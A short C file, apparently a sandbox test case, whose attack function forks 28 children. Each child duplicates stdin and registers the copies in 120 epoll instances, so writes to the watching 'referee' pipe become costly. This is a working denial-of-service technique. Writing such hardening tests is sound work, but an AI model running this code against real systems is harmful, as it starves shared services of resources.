/* The referee would pay for who watches its pipe: whoever writes to it tells each watch in his own call. A file may
   be watched once for each number that it has and each epoll. */
#include <sys/epoll.h>
#include <sys/mman.h>
#include "wall.h"

enum { CHILDREN = 28, WATCHERS = 120, NUMBERS = 120 };

static void watch(volatile int *made) {
    int number[NUMBERS], numbers = 0;
    close(1);
    while (numbers < NUMBERS && (number[numbers] = dup(0)) >= 0) numbers++;
    for (int each = 0; each < WATCHERS; each++) {
        int watcher = epoll_create1(0);
        struct epoll_event event = {.events = EPOLLIN | EPOLLET};
        for (int at = 0; watcher >= 0 && at < numbers; at++)
            if (epoll_ctl(watcher, EPOLL_CTL_ADD, number[at], &event) == 0) __sync_fetch_and_add(&made[0], 1);
    }
    __sync_fetch_and_add(&made[1], 1);
    for (;;) pause();
}

static void attack(void) {
    volatile int *made = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    int children = 0;
    while (children < CHILDREN) {
        pid_t child = fork();
        if (child < 0) break;
        if (child == 0) watch(made);
        children++;
    }
    while (made[1] < children) usleep(2000);
    fprintf(stderr, "%d watches of stdin\n", made[0]);
}
